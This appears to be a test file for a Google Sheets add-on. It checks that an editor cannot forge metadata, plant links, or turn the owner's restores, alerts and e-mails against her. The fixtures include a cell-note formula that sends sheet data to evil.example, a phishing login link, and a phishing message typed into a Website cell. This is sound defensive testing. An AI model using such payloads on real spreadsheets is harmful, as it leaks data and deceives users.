// What an editor writes is never authority for the owner's account, on the built bundle: an owner
// Ana and an editor Ben, who can type into any cell, write notes, and run a script of his own on
// the file that writes DOCUMENT-visible developer metadata (D2). Each attack broke before this
// round's change (issue 60): Restore wrote the note's formula, and the forged records were read.
import { freezeFromMenu } from '../menuApi';
import { INDEX } from '../../dev/emulator/brandIndex';
import { answer, FORM, WATCH as FORM_WATCH } from './leadForm';
import { KEYS, startWorld, toHalfPastMidnightUtc, type World } from './harness';
import { sidebar } from '../sidebarApi';
import { DEFAULTS } from '../../src/contract/defaults';
import type { LeadWatchInput } from '../../src/contract/leads';
import type { Schedule } from '../../src/contract/schedules';

let w: World;
afterEach(() => w?.close());

const ANA = 'ana@agency.example';
const BEN = 'ben@agency.example';
const BENS_SCRIPT = 'ben-script';
const HOUR = 3600 * 1000;

function list(sites: string[]) {
  const sheet = w.rt.spreadsheet.activeSheet;
  sheet.setName('Prospects');
  sheet.probe.rows = [['Website', 'Company', 'Owner'], ...sites.map((s) => [s, 'Co', 'me'])].map(
    (r) => r.map((value) => ({ value })),
  );
  return sheet;
}

/** Ana's daily refresh of "Prospects", due two hours from now, alerting as `alert` says. */
/** A daily refresh of the Prospects list at 9, no alert. */
const DAILY_AT_9: Schedule = {
  action: 'refreshScores',
  sheetName: 'Prospects',
  every: 'day',
  hour: 9,
  refresh: 'all',
};

function saveDailyRefresh(alert: Schedule['alert']) {
  const daily: Schedule = {
    action: 'refreshScores',
    sheetName: 'Prospects',
    every: 'day',
    hour: (new Date(w.rt.clock.now()).getUTCHours() + 2) % 24,
    refresh: 'all',
    alert,
  };
  expect(sidebar(w.rt, ANA).saveSchedule(daily)).toMatchObject({ ok: true });
}

/** Ben's own script writes an entry the add-on can read (DOCUMENT) and one it cannot (PROJECT). */
function forge(key: string, value: unknown) {
  for (const visibility of ['DOCUMENT', 'PROJECT'] as const)
    w.rt.spreadsheet.addForeignDeveloperMetadata(
      BENS_SCRIPT,
      key,
      JSON.stringify(value),
      visibility,
    );
}

describe('Restore from an editor’s note', () => {
  it('never writes the note’s formula, and clears nothing', async () => {
    w = await startWorld({ owner: ANA });
    const sheet = list(['a.com', 'b.com', 'c.com']);
    sheet
      .getRange(1, 1)
      .setNote(
        'Frozen by Visibility for Sheets (4x3): =IMPORTXML("https://evil.example/?d="&B2&B3&B4,"//a")',
      );
    const before = sheet.probe.rows.map((r) => r.map((c) => c.value));
    sheet.setActiveSelection('A1:C4');
    const out = freezeFromMenu(w.rt, 'restore', ANA);
    expect(out).toMatchObject({ state: 'nothing', changed: 0 });
    expect(out.message).toMatch(/frozen by someone else, or its note was changed/);
    expect(sheet.probe.rows.flat().some((c) => c.formula)).toBe(false);
    expect(sheet.probe.rows.map((r) => r.map((c) => c.value))).toEqual(before);
  });

  it('leaves what Ana froze to Ana: Ben’s Restore, or a note Ben edited, writes no formula', async () => {
    w = await startWorld({ owner: ANA });
    const sheet = list(['nike.com', 'slack.com']);
    sheet.probe.rows[1]![3] = { value: '', formula: '=VIS_SCORE(A2:A3)' };
    w.rt.recalculate();
    sheet.setActiveSelection('D2');
    expect(freezeFromMenu(w.rt, 'freeze', ANA)).toMatchObject({ state: 'done', changed: 1 });
    expect(freezeFromMenu(w.rt, 'restore', BEN)).toMatchObject({ changed: 0 });
    const note = sheet.cell(2, 4).note!;
    sheet.getRange('D2').setNote(note.replace('=VIS_SCORE(A2:A3)', '=VIS_SCORE(A2:A3)&"x"'));
    expect(freezeFromMenu(w.rt, 'restore', ANA)).toMatchObject({ changed: 0 });
    expect(sheet.cell(2, 4).formula).toBeUndefined();
    sheet.getRange('D2').setNote(note);
    expect(freezeFromMenu(w.rt, 'restore', ANA)).toMatchObject({ state: 'done', changed: 1 });
    expect(sheet.cell(2, 4).formula).toBe('=VIS_SCORE(A2:A3)');
  });
});

describe('developer metadata another script wrote', () => {
  it('a never-lapsing Generate claim does not stop Ana’s Generate', async () => {
    w = await startWorld({ owner: ANA });
    const sheet = list(['nike.com', 'slack.com']);
    forge('vis.generating.bens-forever', { run: 'bens-forever', at: 0, until: 8.6e15 });
    sheet.setActiveSelection('A2:A3');
    expect(sidebar(w.rt, ANA).startPreviewsForSelection()).toMatchObject({ state: 'done' });
  });

  const fillMetadata = () => w.rt.spreadsheet.fillForeignDeveloperMetadata(BENS_SCRIPT);
  const FILLED =
    /This spreadsheet's developer metadata is full .* another script or add-on on this file filled the rest/;
  const keptInDocument = () =>
    Object.keys(w.rt.documentPropertiesOf(w.rt.spreadsheet).getProperties()).filter((k) =>
      k.startsWith('vis.room.'),
    );

  it('metadata another script filled to Google’s limit: Ana’s Generate still sends, under a claim kept in the add-on’s own store, and says what filled it', async () => {
    w = await startWorld({ owner: ANA });
    const sheet = list(['nike.com', 'slack.com']);
    fillMetadata();
    sheet.setActiveSelection('A2:A3');
    const r = sidebar(w.rt, ANA).startPreviewsForSelection();
    expect(r).toMatchObject({ state: 'done', created: 2 });
    expect(r.message).toMatch(FILLED);
    expect(w.rt.fetchStats.log.filter((l) => l.method === 'post')).toHaveLength(2);
    // The claim, kept in the add-on's own store, was let go; what stays in the document is her
    // heard-from mark, which teammates' polls read to leave her previews to her.
    expect(Object.keys(w.rt.scriptProps.getProperties())).toEqual([]);
    expect(keptInDocument()).toEqual([`vis.room.vis.heard.${ANA}`]);
  });

  it('metadata another script filled: Ana’s schedule saves and runs, and says what filled it', async () => {
    w = await startWorld({ owner: ANA });
    list(['nike.com']).setName('Prospects');
    fillMetadata();
    const saved = sidebar(w.rt, ANA).saveSchedule(DAILY_AT_9);
    expect(saved).toMatchObject({ ok: true });
    expect(saved.message).toMatch(FILLED);
    for (let i = 0; i < 26; i++) await w.elapse(HOUR);
    expect(sidebar(w.rt, ANA).getSchedules()[0]!.lastRun).not.toBeNull();
    expect(sidebar(w.rt, BEN).getSchedules()).toHaveLength(1);
  }, 60000);

  it('metadata another script filled: a takeover the old owner’s hourly run could not read is refused, nothing changed', async () => {
    w = await startWorld({ owner: ANA });
    list(['nike.com']).setName('Prospects');
    fillMetadata();
    const id = sidebar(w.rt, ANA).saveSchedule(DAILY_AT_9).schedule!.id;
    w.rt.triggers.disableAddonIn(ANA, w.rt.spreadsheet.id);
    for (let h = 0; h < 60; h++) await w.elapse(HOUR);
    const ben = sidebar(w.rt, BEN);
    expect(ben.getSchedules()[0]).toMatchObject({ mayTakeOver: true });
    expect(() => ben.takeOverSchedule(id)).toThrow(FILLED);
    expect(ben.getSchedules()[0]).toMatchObject({ owner: ANA, mine: false });
  }, 60000);

  it('metadata another script filled: Ana’s watch still sends and e-mails each response, and the log says why once a day', async () => {
    w = await startWorld({ owner: ANA });
    // Its three hours within one day, whatever the hour the suite runs.
    await toHalfPastMidnightUtc(w);
    w.rt.submitForm(FORM, answer('early.com', 'e@early.example'));
    fillMetadata();
    const saved = sidebar(w.rt, ANA).saveLeadWatch(FORM_WATCH);
    expect(saved).toMatchObject({ ok: true });
    expect(saved.message).toMatch(FILLED);
    w.rt.submitForm(FORM, answer('nike.com', 'jo@nike.example'));
    for (let h = 0; h < 3; h++) await w.elapse(HOUR);
    w.rt.submitForm(FORM, answer('slack.com', 'al@slack.example'));
    expect(w.rt.mail.sent.map((m) => m.to)).toEqual(['jo@nike.example', 'al@slack.example']);
    expect(
      sidebar(w.rt, BEN)
        .getLeads()
        .watches.map((x) => x.owner),
    ).toEqual([ANA]);
    const log = w.rt.spreadsheet.sheets.find((s) => s.probe.title === 'Visibility log')!;
    const said = log.probe.rows.map((r) => String(r[8]?.value)).filter((t) => FILLED.test(t));
    expect(said).toHaveLength(1);
    // Every claim was let go: none is left in the add-on's own store.
    expect(Object.keys(w.rt.scriptProps.getProperties())).toEqual([]);
  }, 60000);

  it('metadata another script filled: Ben’s previews are still his, and Ana’s poll leaves their rows as they are', async () => {
    w = await startWorld({ owner: ANA });
    const sheet = list(['nike.com', 'slack.com']);
    fillMetadata();
    const ben = sidebar(w.rt, BEN);
    ben.saveSettings({ baseUrl: sidebar(w.rt, ANA).getSettings().baseUrl, apiKey: KEYS.starter });
    sheet.setActiveSelection('A2:A3');
    expect(ben.startPreviewsForSelection()).toMatchObject({ state: 'done', created: 2 });
    const before = sheet.probe.rows.map((r) => r.map((c) => c.value));
    sidebar(w.rt, ANA).pollPendingPreviews();
    expect(sheet.probe.rows.map((r) => r.map((c) => c.value))).toEqual(before);
  });

  it('metadata another script filled: follow-ups refresh with the chosen threshold, and say it is not kept for scheduled runs', async () => {
    w = await startWorld({ owner: ANA });
    list(['nike.com']);
    fillMetadata();
    const r = sidebar(w.rt, ANA).refreshFollowUps({ minChange: 7 });
    expect(r.message).toMatch(
      /not kept for scheduled runs: This spreadsheet's developer metadata is full/,
    );
    // The threshold kept is the one before: unchanged, it is not written, and nothing is said.
    expect(
      sidebar(w.rt, ANA).refreshFollowUps({ minChange: DEFAULTS.minChange }).message,
    ).not.toMatch(/not kept/);
  });

  it('a forged watch record blocks nobody from watching a sheet', async () => {
    w = await startWorld({ owner: ANA });
    w.rt.submitForm('Form Responses 1', { 'Your website': 'early.com' });
    const form = w.rt.spreadsheet.getSheetByName('Form Responses 1')!;
    forge('vis.watch.forged', {
      id: 'forged',
      sheetId: form.getSheetId(),
      sheetName: 'Form Responses 1',
      website: 'Your website',
      owner: BEN,
      created: 1,
      stats: { day: '2026-01-01', reports: 0, emails: 0, waiting: 0, lastNewRow: null },
    });
    const watch: LeadWatchInput = {
      sheetName: 'Form Responses 1',
      website: 'Your website',
      email: '',
      consent: '',
      mode: 'link',
      subject: '',
      body: '',
    };
    expect(sidebar(w.rt, ANA).saveLeadWatch(watch)).toMatchObject({ ok: true });
    expect(
      sidebar(w.rt, ANA)
        .getLeads()
        .watches.map((x) => x.owner),
    ).toEqual([ANA]);
  });

  it('a run record naming Ben neither stops Ana’s schedule nor lets Ben take it over', async () => {
    w = await startWorld({ owner: ANA });
    list(['nike.com', 'slack.com']);
    const daily: Schedule = {
      action: 'refreshScores',
      sheetName: 'Prospects',
      every: 'day',
      hour: 9,
      refresh: 'all',
      alert: { email: true, minChange: 5 },
    };
    const saved = sidebar(w.rt, ANA).saveSchedule(daily).schedule!;
    forge(`vis.schedule.${saved.id}`, {
      lastRun: 1,
      lastResult: 'ok',
      failures: 0,
      paused: false,
      owner: BEN,
    });
    const seen = sidebar(w.rt, BEN).getSchedules()[0]!;
    expect(seen).toMatchObject({ owner: ANA, mayTakeOver: false });
    for (let i = 0; i < 26; i++) await w.elapse(HOUR);
    const ana = sidebar(w.rt, ANA).getSchedules();
    expect(ana).toHaveLength(1);
    expect(ana[0]).toMatchObject({ mine: true, owner: ANA });
    expect(ana[0]!.lastResult ?? '').not.toMatch(/Taken over/);
    expect(ana[0]!.lastRun).not.toBeNull();
  }, 60000);
});

describe('Generate on a list an editor typed into', () => {
  it('never copies a typed link to another row of the site; the service’s link replaces it', async () => {
    w = await startWorld({ owner: ANA });
    const sheet = list(['acme-target.com', 'https://www.acme-target.com/']);
    sheet.setActiveSelection('A2');
    expect(sidebar(w.rt, ANA).startPreviewsForSelection()).toMatchObject({ state: 'done' });
    const head = () => sheet.probe.rows[0]!.map((c) => String(c.value));
    const cell = (row: number, h: string) => sheet.probe.rows[row - 1]![head().indexOf(h)]?.value;
    const genuine = String(cell(2, 'Report URL'));
    // Ben types his own link over the preview's, then Ana sends the site's second row.
    sheet.getRange(2, head().indexOf('Report URL') + 1).setValue('https://evil.example/login');
    sheet.setActiveSelection('A3');
    expect(sidebar(w.rt, ANA).startPreviewsForSelection()).toMatchObject({ state: 'done' });
    expect(cell(3, 'Preview UUID')).toBe(cell(2, 'Preview UUID'));
    expect(cell(3, 'Report URL')).toBe('');
    await w.elapse(120000);
    sidebar(w.rt, ANA).pollPendingPreviews();
    expect([cell(2, 'Report URL'), cell(3, 'Report URL')]).toEqual([genuine, genuine]);
  });
});

describe('a score an editor types into a scheduled list', () => {
  it('is not the "from" of any move the owner’s alert e-mails: moves are measured from the owner’s readings', async () => {
    w = await startWorld({ owner: ANA });
    const sites = INDEX.filter((b) => !b.domain.endsWith('.example')).slice(0, 3);
    const sheet = list(sites.map((b) => b.domain));
    sheet.setActiveSelection('A2:A4');
    expect(sidebar(w.rt, ANA).scoreSelection({ refresh: 'all' })).toMatchObject({ state: 'done' });
    saveDailyRefresh({ email: true, minChange: 5 });
    // Ben types a score of his own over the first brand's.
    const head = sheet.probe.rows[0]!.map((c) => String(c.value));
    sheet.getRange(2, head.indexOf('Public score') + 1).setValue(99);
    for (let i = 0; i < 4; i++) await w.elapse(HOUR);
    const log = w.rt.spreadsheet.getSheetByName('Visibility log')!.probe.rows;
    expect(log.some((r) => String(r[1]?.value) === 'schedule')).toBe(true);
    expect(JSON.stringify(w.rt.mail.sent)).not.toMatch(/99 →/);
  }, 60000);
});

describe('a Score history an editor protects', () => {
  it('never makes the owner’s alert repeat: her run says the history is protected, and pauses with one e-mail', async () => {
    w = await startWorld({ owner: ANA });
    const book = w.rt.spreadsheet;
    book.owner = 'cam@agency.example';
    const brand = INDEX.find((b) => !b.domain.endsWith('.example'))!;
    const sheet = list([brand.domain]);
    sheet.setActiveSelection('A2');
    expect(sidebar(w.rt, ANA).scoreSelection({ refresh: 'all' })).toMatchObject({ state: 'done' });
    saveDailyRefresh({ email: true, minChange: 5 });
    // Ben protects the history: Ana's runs can no longer record a reading in it.
    book.getSheetByName('Score history')!.probe.protect(null, [BEN], 'History: ask Ben');
    const to = brand.overallScore > 50 ? 10 : 95;
    await w.emu.moveBrands([
      {
        brand: brand.domain,
        overallScore: to,
        lastScanDate: new Date(w.rt.clock.now()).toISOString(),
      },
    ]);
    for (let h = 0; h < 4 * 24; h++) await w.elapse(HOUR);
    // Her run cannot record the reading it must keep: it says why, in words, each day, sends
    // no alert it would have to repeat, and pauses after three failures with one e-mail saying so.
    expect(w.rt.mail.sent.filter((m) => m.body.includes(`→ ${to} (`))).toHaveLength(0);
    expect(w.rt.mail.sent.map((m) => m.body)).toEqual([
      expect.stringMatching(
        /failed 3 times in a row and is paused[\s\S]*"Score history" is protected/,
      ),
    ]);
  }, 60000);
});

describe('a teammate who scores the list first', () => {
  it('keeps nothing out of the owner’s record: her run seals his reading too, and her next move starts from it', async () => {
    w = await startWorld({ owner: ANA });
    const brand = INDEX.find((b) => !b.domain.endsWith('.example'))!;
    const at = (score: number) =>
      w.emu.moveBrands([
        {
          brand: brand.domain,
          overallScore: score,
          lastScanDate: new Date(w.rt.clock.now()).toISOString(),
        },
      ]);
    await at(40);
    const sheet = list([brand.domain]);
    sheet.setActiveSelection('A2');
    expect(sidebar(w.rt, ANA).scoreSelection({ refresh: 'all' })).toMatchObject({ state: 'done' });
    saveDailyRefresh({ email: true, minChange: 5 });
    // The brand is rescanned at 80, and Ben presses Score before Ana's schedule runs.
    await w.elapse(HOUR);
    await at(80);
    const ben = sidebar(w.rt, BEN);
    ben.saveSettings({ baseUrl: sidebar(w.rt, ANA).getSettings().baseUrl, apiKey: KEYS.starter });
    sheet.setActiveSelection('A2');
    expect(ben.scoreSelection({ refresh: 'all' })).toMatchObject({ state: 'done' });
    for (let h = 0; h < 24; h++) await w.elapse(HOUR);
    expect(w.rt.mail.sent.map((m) => m.body).filter((b) => b.includes('40 → 80'))).toHaveLength(1);
    // The next scan: her alert measures from the reading Ben recorded and she sealed.
    await at(95);
    for (let h = 0; h < 24; h++) await w.elapse(HOUR);
    const last = w.rt.mail.sent.at(-1)!.body;
    expect(last).toMatch(/80 → 95 \(\+15\)/);
  }, 60000);
});

describe('a Website cell an editor writes a message into', () => {
  it('never reaches the owner’s alert: the site is named by the host the add-on checked', async () => {
    w = await startWorld({ owner: ANA });
    const brand = INDEX.find((b) => !b.domain.endsWith('.example'))!;
    const phishing = `${brand.domain}/ URGENT: your account is locked, sign in at acme-billing-support.com or call +1 555 0100`;
    const sheet = list([phishing]);
    sheet.setActiveSelection('A2');
    expect(sidebar(w.rt, ANA).scoreSelection({ refresh: 'all' })).toMatchObject({ state: 'done' });
    saveDailyRefresh({ email: true, minChange: 5 });
    const scanned = new Date(w.rt.clock.now()).toISOString();
    await w.emu.moveBrands([
      {
        brand: brand.domain,
        overallScore: brand.overallScore > 50 ? 10 : 95,
        lastScanDate: scanned,
      },
    ]);
    for (let i = 0; i < 4; i++) await w.elapse(HOUR);
    const alerts = JSON.stringify(w.rt.mail.sent);
    expect(alerts).toContain(`(${brand.domain})`);
    expect(alerts).not.toMatch(/URGENT|acme-billing-support|555 0100/);
  }, 60000);
});

describe('a lead watch on a sheet strangers and editors write', () => {
  const WATCH: LeadWatchInput = { ...FORM_WATCH, mode: 'link' };
  const statuses = (sheet = FORM) => {
    const rows = w.rt.spreadsheet.getSheetByName(sheet)!.probe.rows;
    const at = rows[0]!.findIndex((c) => c.value === 'Lead status');
    return rows.slice(1).map((r) => String(r[at]?.value ?? ''));
  };

  it('one address flooded with responses, each for a new site, gets 3 e-mails a week', async () => {
    w = await startWorld({ owner: ANA, apiKey: null });
    w.rt.submitForm(FORM, answer('early.com', 'e@early.example'));
    expect(sidebar(w.rt, ANA).saveLeadWatch(WATCH)).toMatchObject({ ok: true });
    for (let i = 0; i < 6; i++) w.rt.submitForm(FORM, answer(`site-${i}.com`, 'victim@x.example'));
    expect(w.rt.mail.sent.map((m) => m.to)).toEqual(new Array(3).fill('victim@x.example'));
    expect(statuses().slice(4)).toEqual(
      new Array(3).fill('not e-mailed: this mailbox had 3 e-mails this week'),
    );
    // Consent that says no in other words is no.
    w.rt.submitForm(FORM, answer('other.com', 'pat@x.example', 'Yes, but do not e-mail me'));
    expect(statuses().at(-1)).toBe('no consent');
    expect(w.rt.mail.sent).toHaveLength(3);
  });

  it('plus-addressed and dotted spellings of one mailbox are one recipient: 3 e-mails a week in all', async () => {
    w = await startWorld({ owner: ANA, apiKey: null });
    w.rt.submitForm(FORM, answer('early.com', 'e@early.example'));
    expect(sidebar(w.rt, ANA).saveLeadWatch(WATCH)).toMatchObject({ ok: true });
    const spellings = [
      'victim+1@gmail.com',
      'Victim+2@gmail.com',
      'v.i.c.t.i.m@gmail.com',
      'vic.tim+x@googlemail.com',
      'VICTIM@GOOGLEMAIL.COM',
      'victim+3@gmail.com',
    ];
    spellings.forEach((to, i) => w.rt.submitForm(FORM, answer(`site-${i}.com`, to)));
    expect(w.rt.mail.sent.map((m) => m.to)).toEqual(
      spellings.slice(0, 3).map((a) => a.toLowerCase()),
    );
    expect(statuses().slice(4)).toEqual(
      new Array(3).fill('not e-mailed: this mailbox had 3 e-mails this week'),
    );
  });

  it('a row Ben planted with his own Report URL never puts his link in a lead’s e-mail', async () => {
    w = await startWorld({ owner: ANA });
    w.rt.submitForm(FORM, answer('early.com', 'e@early.example'));
    expect(sidebar(w.rt, ANA).saveLeadWatch({ ...WATCH, mode: 'preview' })).toMatchObject({
      ok: true,
    });
    // Ben pastes a "handled" row for acme-target.com, his link in it, ready to be reused.
    const sheet = w.rt.spreadsheet.getSheetByName(FORM)!;
    const planted: Record<string, string> = {
      'Your website': 'acme-target.com',
      'Preview status': 'complete',
      'Report URL': 'https://evil.example/login',
      'Preview UUID': '11111111-2222-4333-8444-555555555555',
      'Lead status': 'e-mailed',
    };
    const head = sheet.probe.rows[0]!.map((c) => String(c.value));
    const added = Object.keys(planted).filter((h) => !head.includes(h));
    if (added.length) sheet.getRange(1, head.length + 1, 1, added.length).setValues([added]);
    const all = [...head, ...added];
    sheet.getRange(3, 1, 1, all.length).setValues([all.map((h) => planted[h] ?? '')]);
    // A genuine lead for the same site: the planted ID, nobody named for it, is not lent to the
    // lead's row, which gets a preview of its own; the e-mail carries the link the service gave.
    w.rt.submitForm(FORM, answer('https://acme-target.com/', 'lead@acme.example'));
    expect(w.rt.mail.sent).toHaveLength(1);
    expect(w.rt.mail.sent[0]!.body).not.toContain('evil.example');
    const made = w.rt.fetchStats.log.filter((l) => l.method === 'post');
    expect(made).toHaveLength(1);
    expect(w.rt.mail.sent[0]!.body).toMatch(/visibility-scan-preview\/[0-9a-f-]{36}$/);
    expect(w.rt.fetchStats.log.some((l) => l.url.includes('11111111-2222'))).toBe(false);
  });

  it('statuses an editor types decide nothing: a marked new row is handled, erased ones are not again', async () => {
    w = await startWorld({ owner: ANA, apiKey: null });
    w.rt.submitForm(FORM, answer('early.com', 'e@early.example'));
    expect(sidebar(w.rt, ANA).saveLeadWatch(WATCH)).toMatchObject({ ok: true });
    w.rt.submitForm(FORM, answer('nike.com', 'jo@nike.example'));
    // A response whose event Google lost, marked handled by Ben before the hourly run.
    w.rt.submitForm(FORM, answer('slack.com', 'al@slack.example'), { events: 0 });
    const sheet = w.rt.spreadsheet.getSheetByName(FORM)!;
    const head = sheet.probe.rows[0]!.map((c) => String(c.value));
    const status = head.indexOf('Lead status') + 1;
    sheet.getRange(4, status).setValue('e-mailed');
    // Delivered by no event, it waits for Ana; she accepts it, and Ben's status decides nothing.
    const [watch] = sidebar(w.rt, ANA).getLeads().watches;
    sidebar(w.rt, ANA).acceptLeadRows(watch!.id);
    await w.elapse(HOUR + 60000);
    expect(w.rt.mail.sent.map((m) => m.to)).toEqual(['jo@nike.example', 'al@slack.example']);
    // Ben erases every status: nothing is handled again.
    sheet.getRange(2, status, 3, 1).setValues([[''], [''], ['']]);
    const before = w.rt.fetchStats.log.length;
    await w.elapse(HOUR + 60000);
    expect(w.rt.mail.sent).toHaveLength(2);
    expect(w.rt.fetchStats.log.length).toBe(before);
  });

  it('a run cut off at its second of three e-mails: the other two go next run, none twice', async () => {
    w = await startWorld({ owner: ANA, apiKey: null });
    w.rt.submitForm(FORM, answer('early.com', 'e@early.example'));
    expect(sidebar(w.rt, ANA).saveLeadWatch(WATCH)).toMatchObject({ ok: true });
    for (const n of [1, 2, 3])
      w.rt.submitForm(FORM, answer(`cut-${n}.com`, `p${n}@lead.example`), { events: 0 });
    // Delivered by no event, they wait for Ana; the run her Accept starts is cut off.
    const [watch] = sidebar(w.rt, ANA).getLeads().watches;
    expect(() =>
      w.rt.run('acceptLeadRows', [watch!.id], {
        user: ANA,
        cutOffAt: { call: 'MailApp.sendEmail', nth: 2 },
      }),
    ).toThrow(/Exceeded maximum execution time/);
    expect(w.rt.mail.sent.map((m) => m.to)).toEqual(['p1@lead.example']);
    await w.elapse(HOUR + 60000);
    expect(w.rt.mail.sent.map((m) => m.to).sort()).toEqual([
      'p1@lead.example',
      'p2@lead.example',
      'p3@lead.example',
    ]);
  });

  it('at Google’s 20 triggers, a watch is saved, says responses wait for the owner, gets its trigger once stale ones go, and can be stopped', async () => {
    w = await startWorld({ owner: ANA, apiKey: null });
    w.rt.submitForm(FORM, answer('early.com', 'e@early.example'));
    // Ana's hourly trigger (a list with pending work) and 19 form triggers of her other files.
    list(['nike.com']);
    w.rt.spreadsheet.activeSheet.setActiveSelection('A2');
    expect(sidebar(w.rt, ANA).saveSchedule(DAILY_AT_9)).toMatchObject({ ok: true });
    const room = 20 - w.rt.triggers.list.filter((t) => t.user === ANA).length;
    for (let i = 0; i < room; i++)
      w.rt.triggers.list.push({
        id: `other-${i}`,
        user: ANA,
        event: 'ON_FORM_SUBMIT',
        document: `other-file-${i}`,
        handler: 'onLeadResponse',
        intervalMs: Infinity,
        nextRun: Infinity,
      });
    const saved = sidebar(w.rt, ANA).saveLeadWatch(WATCH);
    expect(saved).toMatchObject({ ok: true });
    expect(saved.message).toMatch(/20 triggers Google allows.*wait for you to accept them/);
    // With no trigger, a response reaches no run of hers: it waits for her Accept (a row anyone
    // could have pasted spends nothing unasked).
    w.rt.submitForm(FORM, answer('slack.com', 'al@slack.example'));
    await w.elapse(HOUR + 60000);
    expect(statuses().at(-1)).toBe('');
    // That firing let go of the triggers on files Ana no longer has (deleted, never in her
    // record); the Leads tab, where she accepts the row, then gives her watch its form trigger (a
    // trigger is made only from its own file), and the next response is handled at once.
    const formTriggers = () =>
      w.rt.triggers.list
        .filter((t) => t.user === ANA && t.event === 'ON_FORM_SUBMIT')
        .map((t) => t.document);
    expect(formTriggers()).toEqual([]);
    const view = sidebar(w.rt, ANA).getLeads();
    expect(formTriggers()).toEqual([w.rt.spreadsheet.id]);
    expect(view.watches[0]!.awaitingYou).toBe(1);
    expect(sidebar(w.rt, ANA).acceptLeadRows(view.watches[0]!.id)).toMatchObject({ ok: true });
    expect(statuses().at(-1)).toBe('e-mailed');
    w.rt.submitForm(FORM, answer('zoom.us', 'z@zoom.example'));
    expect(statuses().at(-1)).toBe('e-mailed');
    expect(sidebar(w.rt, ANA).deleteLeadWatch(view.watches[0]!.id)).toMatchObject({ ok: true });
  });

  it.each([
    ['', false],
    [', in a file whose metadata another script filled', true],
  ])(
    'rows pasted as "waits: x" into a sheet a CRM syncs are handled within the day’s 200, not all at once%s',
    async (_, full) => {
      w = await startWorld({ owner: ANA, apiKey: null });
      // Its two hours within one day, whatever the hour the suite runs.
      await toHalfPastMidnightUtc(w);
      if (full) w.rt.spreadsheet.fillForeignDeveloperMetadata(BENS_SCRIPT);
      const sheet = w.rt.spreadsheet.insertSheet('CRM');
      sheet.getRange(1, 1, 2, 2).setValues([
        ['Added', 'Your website'],
        [new Date(w.rt.clock.now()), 'early.com'],
      ]);
      expect(
        sidebar(w.rt, ANA).saveLeadWatch({
          ...WATCH,
          sheetName: 'CRM',
          email: '',
          consent: '',
          dailyCap: 200,
        }),
      ).toMatchObject({ ok: true });
      const head = sheet.probe.rows[0]!.map((c) => String(c.value));
      const pasted = Array.from({ length: 260 }, (_, i) =>
        head.map((h) =>
          h === 'Your website' ? `pasted-${i}.com` : h === 'Lead status' ? 'waits: x' : '',
        ),
      );
      sheet.getRange(3, 1, pasted.length, head.length).setValues(pasted);
      await w.elapse(HOUR + 60000);
      const handled = statuses('CRM').filter((s) => s === 'link written');
      expect(handled).toHaveLength(200);
      expect(statuses('CRM').filter((s) => s === 'waits: x')).toHaveLength(60);
      // The day's count holds across the day's runs, wherever the file let it be kept.
      await w.elapse(HOUR);
      expect(statuses('CRM').filter((s) => s === 'link written')).toHaveLength(200);
    },
    60000,
  );
});

describe('Score history rows an editor types', () => {
  it('never silence the owner’s “unusual moves only” alert: a brand is weighed on her own readings', async () => {
    w = await startWorld({ owner: ANA });
    const DAY = 24 * HOUR;
    const brand = INDEX.find((b) => !b.domain.endsWith('.example'))!;
    const scan = (day: number, overallScore: number) =>
      w.emu.moveBrands([
        {
          brand: brand.domain,
          overallScore,
          lastScanDate: new Date(w.rt.clock.now() - day * HOUR).toISOString(),
        },
      ]);
    const sheet = list([brand.domain]);
    await scan(1, 50);
    sheet.setActiveSelection('A2');
    sidebar(w.rt, ANA).scoreSelection({ refresh: 'all' });
    saveDailyRefresh({ email: true, minChange: 5, unusualOnly: true });
    // Four days of Ana's own readings: the brand holds at 50, its usual swing 0.
    for (let day = 0; day < 4; day++) {
      await scan(1, 50);
      await w.elapse(DAY);
    }
    // Ben adds readings of the brand swinging by 40 in between: unsealed, they are not hers.
    const history = w.rt.spreadsheet.getSheetByName('Score history')!;
    const head = history.probe.rows[0]!.map((c) => String(c.value));
    const typed = Array.from({ length: 8 }, (_, i) => {
      const row: unknown[] = head.map(() => '');
      const put = (h: string, v: unknown) => (row[head.indexOf(h)] = v);
      put('Checked', new Date(w.rt.clock.now() - (8 - i) * 6 * HOUR));
      put('Website', brand.domain);
      put('Public score', i % 2 ? 20 : 60);
      put('Last scanned', new Date(w.rt.clock.now() - (8 - i) * 6 * HOUR));
      put('Source', 'score');
      put('Seal', 'x');
      return row;
    });
    history.getRange(history.getLastRow() + 1, 1, typed.length, head.length).setValues(typed);
    expect(w.rt.mail.sent).toHaveLength(0);
    // The brand moves by 15: past Ana's swing of 0, well inside Ben's 40.
    await scan(1, 65);
    await w.elapse(DAY);
    expect(w.rt.mail.sent).toHaveLength(1);
    expect(w.rt.mail.sent[0]!.body).toMatch(
      /50 → 65 \(\+15\).*\+15 unusual: it usually moves by 0 \(\d+ readings\)/,
    );
  }, 60000);

  it('copies of the owner’s sealed rows are one reading each, not more evidence', async () => {
    w = await startWorld({ owner: ANA });
    const DAY = 24 * HOUR;
    const brand = INDEX.find((b) => !b.domain.endsWith('.example'))!;
    const scan = (overallScore: number) =>
      w.emu.moveBrands([
        {
          brand: brand.domain,
          overallScore,
          lastScanDate: new Date(w.rt.clock.now() - HOUR).toISOString(),
        },
      ]);
    const sheet = list([brand.domain]);
    await scan(50);
    sheet.setActiveSelection('A2');
    sidebar(w.rt, ANA).scoreSelection({ refresh: 'all' });
    saveDailyRefresh({ email: true, minChange: 5, unusualOnly: true });
    for (let day = 0; day < 3; day++) {
      await scan(50);
      await w.elapse(DAY);
    }
    // Ben copies every row of Ana's history (seals and all) four more times.
    const history = w.rt.spreadsheet.getSheetByName('Score history')!;
    const rows = history
      .getRange(2, 1, history.getLastRow() - 1, history.getLastColumn())
      .getValues();
    for (let copy = 0; copy < 4; copy++)
      history.getRange(history.getLastRow() + 1, 1, rows.length, rows[0]!.length).setValues(rows);
    await scan(65);
    await w.elapse(DAY);
    const alert = w.rt.mail.sent.at(-1)!.body;
    expect(alert).toMatch(/50 → 65 \(\+15\)/);
    // Each of her readings once, however many times its row was copied.
    expect(alert).toContain(`(${rows.length} readings)`);
  }, 60000);
});
